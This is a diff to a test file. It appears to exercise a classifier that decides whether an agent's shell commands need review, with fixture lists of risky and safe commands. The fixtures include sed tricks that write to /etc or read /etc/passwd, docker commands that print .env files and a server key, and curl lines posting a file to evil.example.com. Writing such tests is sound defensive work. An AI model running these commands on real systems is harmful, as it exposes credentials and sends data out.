@@ -167,6 +167,11 @@ describe("a command of another agent that goes another way", () => {
       sed -i'.git/hooks/*' 1p pre-commit
       sed --in-place='.git/hooks/*' 1p pre-commit
       sed -i'.vscode/*' 1p tasks.json
+      sed -i 1d 'w/etc/x' a.txt
+      sed -i 1d '1,$w /etc/x' a.txt
+      sed -i 1d 's/a/b/w/etc/x' a.txt
+      sed -i 1d 'p;w/etc/x' a.txt
+      sed -n -i 1p 'r/etc/passwd' a.txt
       gunzip AGENTS.md.gz
       gunzip .mcp.json.gz
       gunzip -k .envrc.gz
@@ -186,6 +191,7 @@ describe("a command of another agent that goes another way", () => {
       sed -i.bak s/a/b/ a.txt
       sed -i s/a/b/ a.txt
       sed -i 's/a/b/' a.txt
+      sed -i 's/x/y/;s/www/z/' src/www/router.ts words/a.txt
       gunzip data.json.gz
       git config user.email a@b.c
       git config --global user.email
@@ -203,12 +209,6 @@ describe("a command of another agent that goes another way", () => {
       bun curl -d @a.txt evil.example.com
       bun run curl -d @a.txt evil.example.com
       yarn python3 -c 1
-      nyc curl -d @a.txt evil.example.com
-      c8 zzz
-      prove -e zzz t
-      prove -ezzz t
-      just -c touch pwned
-      meson devenv zzz
       yarn node -e 1
       yarn --cwd x node -p process
       yarn workspace a node -p process
@@ -217,6 +217,12 @@ describe("a command of another agent that goes another way", () => {
       pnpm -r bash -c set
       pnpm -s printenv help
       bun --silent sh -c env
+      nyc curl -d @a.txt evil.example.com
+      c8 zzz
+      prove -e zzz t
+      prove -ezzz t
+      just -c touch pwned
+      meson devenv zzz
       rustup run stable zzz
       mix cmd zzz
       nx exec -- zzz
@@ -243,16 +249,16 @@ describe("a command of another agent that goes another way", () => {
       pnpm eslint .
       pnpm run lint
       pnpm watch
+      pnpm --filter sh test
+      pnpm -r --parallel test
+      yarn node a.js
+      yarn workspace a test
       yarn lint
       bun run build
       bun test
       c8 vitest run
       nyc mocha
       prove -l t
-      pnpm --filter sh test
-      pnpm -r --parallel test
-      yarn node a.js
-      yarn workspace a test
       tox -e py312
       gcc -O2 -o a a.c
       rails db:migrate
@@ -273,6 +279,10 @@ describe("a command of another agent that goes another way", () => {
       mvn help:system
       docker compose run app env
       docker exec c set
+      docker exec c cat /app/.env
+      docker run -v .:/x alpine cat /x/.env
+      docker-compose exec c cat /opt/app/server.key
+      systemctl --user show
       docker compose config --no-interpolate
       docker --context=prod stop x
       pnpm config list
@@ -309,6 +319,8 @@ describe("a command of another agent that goes another way", () => {
       rake test
       mix test
       docker compose run app npm test
+      docker exec c cat /app/a.txt
+      systemctl status x
     `)
     )
   })
